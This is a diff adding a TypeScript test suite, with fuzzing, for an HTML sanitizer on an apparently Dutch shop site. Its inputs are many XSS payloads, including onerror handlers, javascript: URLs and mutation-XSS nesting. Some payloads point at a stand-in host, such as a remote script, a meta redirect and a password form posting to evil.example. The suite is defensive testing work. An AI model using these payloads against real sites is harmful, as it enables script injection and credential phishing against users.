@@ -1,0 +1,225 @@
+import fc from 'fast-check'
+import { expect, test } from 'vitest'
+import { addContents } from '../../src/features/content/contents'
+import { sanitizeHtml } from './sanitize'
+
+declare class HTMLRewriter {
+  on(
+    selector: string,
+    handlers: { element: (element: { tagName: string; attributes: Iterable<[string, string]> }) => void },
+  ): this
+}
+
+const numRuns = process.env.LONG ? 3_000 : 200
+
+test.each([
+  ['<p>Een <strong>ruime</strong> tent</p>', '<p>Een <strong>ruime</strong> tent</p>'],
+  ['<ul><li>één<li>twee</ul>', '<ul><li>één</li><li>twee</li></ul>'],
+  [
+    '<table><tr><th scope="row">Gewicht<td colspan="2">2 kg</table>',
+    '<table><tbody><tr><th scope="row">Gewicht</th><td colspan="2">2 kg</td></tr></tbody></table>',
+  ],
+  ['a &lt;b&gt; &amp; c', 'a &lt;b> &amp; c'],
+  ['2 < 3 & 4 > 1', '2 &lt; 3 &amp; 4 > 1'],
+  ['<h2>Titel</h2><br/><hr>', '<h2>Titel</h2><br><hr>'],
+  // What is closed without being open, or open without being closed, would break the page around it.
+  ['</div></main><p>Tekst', '<p>Tekst</p>'],
+  ['<a href="https://evil.example">Tekst', '<a href="https://evil.example" rel="noopener">Tekst</a>'],
+  ['<p>Fijn</p><meta http-equiv=refresh content="0;url=https://evil.example" y=', '<p>Fijn</p>'],
+  [`<p>Fijn</p></x a='>`, '<p>Fijn</p>'],
+  ['', ''],
+])('%s becomes well-formed', async (html, kept) => {
+  expect(await sanitizeHtml(html)).toBe(kept)
+})
+
+test('links keep where they lead, and say nothing of us', async () => {
+  expect(await sanitizeHtml('<a href="/tent-p1" target="_blank" onclick="x()">Tent</a>')).toBe(
+    '<a href="/tent-p1" rel="noopener">Tent</a>',
+  )
+  expect(await sanitizeHtml('<a href="https://merk.example/?a=1&amp;b=2">Merk</a>')).toContain(
+    'href="https://merk.example/?a=1&amp;b=2"',
+  )
+  expect(await sanitizeHtml('<a href="mailto:a@b.example">Mail</a><a href="#boven">Boven</a>')).toContain('mailto:')
+})
+
+test('a heading inside an attribute is not taken for one of the page', async () => {
+  const body = `<h2>a</h2><h2>b</h2><h2>c</h2><a title="<h2><meta http-equiv=refresh content='0;url=https://evil.example'></h2>">x</a>`
+
+  const { html, headings } = addContents(await sanitizeHtml(`${body}<h2>d</h2>`))
+
+  expect(html).not.toMatch(/<meta|<h2[^>]*>\s*meta/)
+  expect(headings.map(({ title }) => title)).toEqual(['a', 'b', 'c', 'd'])
+})
+
+test('pictures are loaded when they are seen', async () => {
+  expect(await sanitizeHtml('<img src="/a.svg" alt="Tent" style="x" srcset="evil">')).toBe(
+    '<img src="/a.svg" alt="Tent" loading="lazy">',
+  )
+})
+
+test.each([
+  '<script>alert(1)</script>',
+  '<<x>img src=x onerror=alert(1)>',
+  '<<!-- -->img src=x onerror=alert(1)>',
+  '<<x>script>alert(1)<<x>/script>',
+  '<p><<x></x>svg onload=alert(1)></p>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<script>alert(1)',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src=x onerror=alert(1)//',
+  '<img/src="x"/onerror=alert(1)>',
+  '<p onmouseover=alert(1) OnClick="alert(1)" onclick=alert(2)>x</p>',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<object data="x"></object><embed src="x">',
+  '<form action="https://evil.example"><input name=password><button>Inloggen</button></form>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href=" &#1; javascript:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="java\nscript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:x">x</a>',
+  '<a href="/ok" href="javascript:alert(1)">x</a>',
+  '<a href="javascript:alert(1)" href="/ok">x</a>',
+  '<a href="javascript:alert(1)" HREF="javascript:alert(2)">x</a>',
+  '<meta http-equiv="refresh" content="0;url=//evil.example">',
+  '<base href="https://evil.example/">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<style>body{display:none}</style>',
+  '<p style="position:fixed;inset:0">x</p>',
+  '<!-- comment --><!--[if IE]><script>alert(1)</script><![endif]-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?xml version="1.0"?>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<title><img src=x onerror=alert(1)></title>',
+  '<template><script>alert(1)</script></template>',
+  '<select><title><script>alert(1)</script></title></select>',
+  '<select><xmp><script>alert(1)</script>',
+  '<plaintext><script>alert(1)',
+  '<shop-island name="AddToCart" props="{}">x</shop-island>',
+  '<custom-element onclick=alert(1)>x</custom-element>',
+  '<p id="main" class="btn" name="x">x</p>',
+  '<dialog open>x</dialog>',
+])('%s loses what could run, load, send or disguise', async (html) => {
+  await expectHarmless(await sanitizeHtml(html))
+})
+
+test.each([
+  '<img src=x onerror=alert(1)',
+  '<img src=x onerror="alert(1)',
+  "<img src=x onerror='alert(1)",
+  '<p><a href="javascript:alert(1)',
+  '<img src=',
+  '<alert(1)<img src=',
+  '<p>tekst <!-- nooit gesloten',
+  '<p>tekst <!',
+  '<p>tekst </',
+  '<p>tekst </p',
+  '<script>alert(1)</script',
+  'a <b',
+])('what is cut off in the middle cannot swallow the page behind it: %s', async (html) => {
+  const page = `${await sanitizeHtml(html)}</div><p>Rest van de pagina</p>`
+
+  await expectHarmless(page)
+  expect((await read(page)).text).toContain('Rest van de pagina')
+})
+
+test('text before something cut off is kept', async () => {
+  expect(await sanitizeHtml('<p>tekst</p><img src=x onerror=alert(1)')).toMatch(/^<p>tekst<\/p>/)
+  expect(await sanitizeHtml('tekst x"\'-->')).toBe('tekst x"\'-->')
+})
+
+test('markup that the parser gives up on costs the text, not the page', async () => {
+  expect(await sanitizeHtml('<p>a</p><select><xmp><script>alert(1)</script></xmp></select>')).not.toContain('<script')
+})
+
+const pieces = fc.constantFrom(
+  '<',
+  '>',
+  '"',
+  "'",
+  '/',
+  '=',
+  ' ',
+  '\n',
+  '&',
+  '<!--',
+  '-->',
+  '<p',
+  '</p>',
+  '<img src=',
+  '<a href=',
+  'javascript:',
+  'onerror=',
+  'alert(1)',
+  '<script',
+  '</script>',
+  '<svg',
+  '<style>',
+  '</style>',
+  '<table>',
+  '<td',
+  '&#106;',
+  '\u0000',
+  'é',
+  '😀',
+)
+
+test('no heap of markup gets through with anything that runs', async () => {
+  await fc.assert(
+    fc.asyncProperty(fc.array(pieces, { maxLength: 25 }), async (parts) => {
+      await expectHarmless(`${await sanitizeHtml(parts.join(''))}</div>`)
+    }),
+    { numRuns },
+  )
+})
+
+const allowedTags = new Set(
+  'p br hr strong b em i u s small sub sup ul ol li h2 h3 h4 h5 h6 blockquote code pre dl dt dd table thead tbody tfoot tr th td figure figcaption span div a img'.split(
+    ' ',
+  ),
+)
+const allowedAttributes = new Set('href title src alt width height scope colspan rowspan rel loading'.split(' '))
+
+/** Nothing that a parser finds in it runs, loads by itself, or can be taken for a part of ours. */
+async function expectHarmless(html: string) {
+  const { elements, comments } = await read(html)
+  for (const { tag, attributes } of elements) {
+    expect(allowedTags).toContain(tag)
+    for (const [name, value] of attributes) {
+      expect(allowedAttributes).toContain(name)
+      if (name === 'href' || name === 'src') expect(value).toMatch(/^[^!-~]*(https?:\/\/|mailto:|tel:|#|\/)/i)
+    }
+  }
+  expect(comments).toBe(0)
+}
+
+type Seen = { text: string; comments: number; elements: { tag: string; attributes: [string, string][] }[] }
+
+/** What a parser sees. */
+async function read(html: string) {
+  const seen: Seen = { text: '', comments: 0, elements: [] }
+  const rewriter = new HTMLRewriter().on('*', {
+    element: ({ tagName, attributes }) => void seen.elements.push({ tag: tagName, attributes: [...attributes] }),
+  }) as unknown as {
+    onDocument(handlers: Record<string, (chunk: { text: string }) => void>): { transform(response: Response): Response }
+  }
+  await rewriter
+    .onDocument({
+      text(chunk) {
+        seen.text += chunk.text
+      },
+      comments() {
+        seen.comments++
+      },
+    })
+    .transform(new Response(html))
+    .text()
+  return seen
+}
